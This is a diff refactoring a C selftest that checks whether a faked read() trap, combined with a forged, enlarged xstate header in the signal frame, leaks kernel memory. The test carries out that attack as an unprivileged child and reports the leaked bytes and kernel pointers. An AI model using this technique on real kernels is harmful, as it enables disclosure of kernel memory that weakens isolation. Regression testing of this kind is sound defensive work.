@@ -36,12 +36,15 @@
 #define SW_BYTES_OFF	464	/* struct _fpx_sw_bytes in the fxsave area */
 #define PATTERN		0xa5
 
-struct a10_shared {
+struct fpstate_shared {
 	int stage;
 	int attempts;
 	int faked;		/* child: attempt whose fake report is out */
-	int go;			/* parent: +attempt: the kernel sleeps in the
-				 * read(); -attempt: the fake was not served */
+	/*
+	 * parent: +attempt: the kernel sleeps in the read();
+	 * -attempt: the fake was not served
+	 */
+	int go;
 	int armed;		/* child: attempt whose header is rewritten */
 	int resumed;		/* child: the monitor resumed the task */
 	int served;		/* the faked read() returned the byte */
@@ -58,7 +61,7 @@ struct a10_shared {
 enum { ST_START, ST_ATTACK, ST_DONE };
 
 FIXTURE(stub_fpstate) {
-	struct a10_shared *s;
+	struct fpstate_shared *s;
 };
 
 FIXTURE_SETUP(stub_fpstate)
@@ -74,23 +77,23 @@ FIXTURE_TEARDOWN(stub_fpstate)
 	munmap(self->s, sizeof(*self->s));
 }
 
-static volatile char flag;	/* the faked read() lands here */
+static char flag;	/* the faked read() lands here: READ_ONCE() */
 
 /*
  * One try.  Returns 1 if the monitor resumed the task after the forged
  * header was in place, 0 if the fake was not served, -1 on a bad layout.
  */
-static int a10_once(struct a10_shared *s, int rfd, int n)
+static int fpstate_try_once(struct fpstate_shared *s, int rfd, int n)
 {
-	volatile struct unpatched_stub_data *d = stub_data();
-	volatile unsigned char *ss;
+	struct unpatched_stub_data *d = stub_data();
+	unsigned char *ss;
 	unsigned int ext;
 	siginfo_t *info;
 	mcontext_t *mc;
 	unsigned long end;
 	int i, go;
 
-	flag = 0;
+	WRITE_ONCE(flag, 0);
 	stub_prefault(s, sizeof(*s));
 	stub_prefault((void *)&flag, 1);
 	stub_prefault_stack(65536);
@@ -101,9 +104,9 @@ static int a10_once(struct a10_shared *s, int rfd, int n)
 		return -1;
 	ss = d->sigstack;
 	i = (unsigned long)mc->fpregs & (STUB_PAGE - 1);
-	if (*(volatile unsigned int *)(ss + i + SW_BYTES_OFF) != FP_MAGIC1)
+	if (READ_ONCE(*(unsigned int *)(ss + i + SW_BYTES_OFF)) != FP_MAGIC1)
 		return -1;
-	s->host_ext_size = *(volatile unsigned int *)(ss + i + SW_BYTES_OFF + 4);
+	s->host_ext_size = READ_ONCE(*(unsigned int *)(ss + i + SW_BYTES_OFF + 4));
 
 	stub_fake_syscall(SYS_read, rfd, (long)&flag, 1);
 	__atomic_store_n(&s->faked, n, __ATOMIC_SEQ_CST);
@@ -120,11 +123,11 @@ static int a10_once(struct a10_shared *s, int rfd, int n)
 
 	/* forge the header for set_stub_state() */
 	for (i = 0; i < (int)STUB_PAGE; i++)
-		ss[i] = PATTERN;
+		WRITE_ONCE(ss[i], PATTERN);
 	mc->fpregs = (void *)(unsigned long)ss;	/* offset 0 in the page */
-	*(volatile unsigned int *)(ss + SW_BYTES_OFF) = FP_MAGIC1;
-	*(volatile unsigned int *)(ss + SW_BYTES_OFF + 4) = STUB_PAGE;
-	*(volatile unsigned int *)(ss + STUB_PAGE - 4) = FP_MAGIC2;
+	WRITE_ONCE(*(unsigned int *)(ss + SW_BYTES_OFF), FP_MAGIC1);
+	WRITE_ONCE(*(unsigned int *)(ss + SW_BYTES_OFF + 4), STUB_PAGE);
+	WRITE_ONCE(*(unsigned int *)(ss + STUB_PAGE - 4), FP_MAGIC2);
 	__atomic_store_n(&s->armed, n, __ATOMIC_SEQ_CST);
 
 	/* the read() returns, the monitor resumes the task */
@@ -133,12 +136,12 @@ static int a10_once(struct a10_shared *s, int rfd, int n)
 	       STUB_FUTEX_IN_CHILD)
 		if (stub_tsc_passed(end))
 			break;
-	if (d->futex == STUB_FUTEX_IN_CHILD) {
+	if (READ_ONCE(d->futex) == STUB_FUTEX_IN_CHILD) {
 		memcpy(s->sigstack, (const void *)ss, STUB_PAGE);
 		s->resumed = 1;
 	}
 	syscall(SYS_getppid);
-	s->served = flag == 'x';
+	s->served = READ_ONCE(flag) == 'x';
 
 	ext = s->host_ext_size;
 	s->leaked = 0;
@@ -170,7 +173,7 @@ static int a10_once(struct a10_shared *s, int rfd, int n)
 	return s->resumed;
 }
 
-static void a10_child(struct a10_shared *s, int rfd)
+static void fpstate_child(struct fpstate_shared *s, int rfd)
 {
 	int i, r = 0;
 
@@ -182,10 +185,10 @@ static void a10_child(struct a10_shared *s, int rfd)
 	s->stage = ST_ATTACK;
 	for (i = 0; i < ATTEMPTS; i++) {
 		s->attempts = i + 1;
-		r = a10_once(s, rfd, i + 1);
+		r = fpstate_try_once(s, rfd, i + 1);
 		if (r < 0) {
-			snprintf(s->err, sizeof(s->err), "stub_data is not "
-				 "laid out as on the unpatched base");
+			snprintf(s->err, sizeof(s->err),
+				 "stub_data is not laid out as on the unpatched base");
 			break;
 		}
 		if (r > 0)
@@ -195,9 +198,12 @@ static void a10_child(struct a10_shared *s, int rfd)
 	_exit(0);
 }
 
+/* Log formats, kept on one line so that they can be grepped for */
+#define ATTACKER_STATE_FMT "attacker %s, stage %d, %d attempt(s), read served %d, resumed %d, host xstate size %u"
+
 TEST_F_TIMEOUT(stub_fpstate, xstate_size_change_does_not_leak, 120)
 {
-	struct a10_shared *s = self->s;
+	struct fpstate_shared *s = self->s;
 	unsigned long end;
 	int p[2], status, i, handled = 0, dead = 0;
 	char buf[64], hex[3 * 32 + 1];
@@ -209,7 +215,7 @@ TEST_F_TIMEOUT(stub_fpstate, xstate_size_change_does_not_leak, 120)
 	ASSERT_GE(pid, 0);
 	if (pid == 0) {
 		close(p[1]);
-		a10_child(s, p[0]);
+		fpstate_child(s, p[0]);
 	}
 	close(p[0]);
 
@@ -245,15 +251,13 @@ TEST_F_TIMEOUT(stub_fpstate, xstate_size_change_does_not_leak, 120)
 	close(p[1]);
 	if (!dead && !stub_wait_child(pid, 30000, &status)) {
 		stub_kill_wait(pid, 5000, &status);
-		STUB_FAIL("attacker still alive (stage %d, attempt %d)",
+		STUB_FAIL(return, "attacker still alive (stage %d, attempt %d)",
 			  s->stage, s->attempts);
 	}
-	TH_LOG("attacker %s, stage %d, %d attempt(s), read served %d, "
-	       "resumed %d, host xstate size %u",
-	       stub_status_str(status, buf, sizeof(buf)), s->stage,
-	       s->attempts, s->served, s->resumed, s->host_ext_size - 4);
+	TH_LOG(ATTACKER_STATE_FMT, stub_status_str(status, buf, sizeof(buf)), s->stage, s->attempts,
+	       s->served, s->resumed, s->host_ext_size - 4);
 	if (s->stage < ST_ATTACK)
-		STUB_FAIL("set-up failed: %s", s->err);
+		STUB_FAIL(return, "set-up failed: %s", s->err);
 	if (s->err[0])
 		TH_LOG("%s", s->err);
 	if (s->leaked > 0) {
@@ -263,12 +267,9 @@ TEST_F_TIMEOUT(stub_fpstate, xstate_size_change_does_not_leak, 120)
 		if (s->ptr_off >= 0)
 			TH_LOG("kernel pointer %#lx at +%d of the signal stack",
 			       s->ptr, s->ptr_off);
-		STUB_VULNERABLE("uid %d faked a read() trap, grew the xstate "
-				"size in its signal frame to %lu while the "
-				"kernel slept, and got %d bytes (%d non-zero) "
-				"of kernel memory after its %u bytes of FP "
-				"registers copied into its signal stack (at "
-				"+%d: %s)", STUB_NOBODY, STUB_PAGE, s->leaked,
+		STUB_VULNERABLE(return,
+				"uid %d faked a read() trap, grew the xstate size in its signal frame to %lu while the kernel slept, and got %d bytes (%d non-zero) of kernel memory after its %u bytes of FP registers copied into its signal stack (at +%d: %s)",
+				STUB_NOBODY, STUB_PAGE, s->leaked,
 				s->nonzero, s->host_ext_size - 4,
 				s->first_leak, hex);
 	}
@@ -278,7 +279,7 @@ TEST_F_TIMEOUT(stub_fpstate, xstate_size_change_does_not_leak, 120)
 		return;
 	}
 	if (!stub_defended_kill(status))
-		STUB_FAIL("attacker died in an unexpected way");
+		STUB_FAIL(return, "attacker died in an unexpected way");
 	TH_LOG("defended: the attacker was killed");
 }
 
